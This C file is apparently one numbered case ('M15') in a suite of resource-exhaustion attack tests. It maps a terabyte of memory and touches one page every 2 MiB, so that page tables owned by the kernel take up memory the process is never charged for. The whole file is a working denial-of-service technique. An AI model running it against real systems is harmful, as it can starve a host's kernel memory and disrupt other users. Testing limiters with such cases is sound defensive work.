/* M15: one page in each 2 MiB: most of the memory is page tables, which belong to the kernel. */
#include "attack.h"
#include <sys/mman.h>

int main(void) {
    size_t size = (size_t)1 << 40, step = 2u << 20;
    int fd = open("/dev/zero", O_RDONLY);
    char *memory = mmap(NULL, size, PROT_READ,
                        MAP_PRIVATE | (fd < 0 ? MAP_ANONYMOUS : 0) | MAP_NORESERVE, fd, 0);
    for (size_t at = 0; at < size; at += step) {
        /* Reading maps the shared zero page: the process itself has no page of its own. */
        (void)*(volatile char *)(memory + at);
    }
    say("mapped", "ok");
    return 0;
}
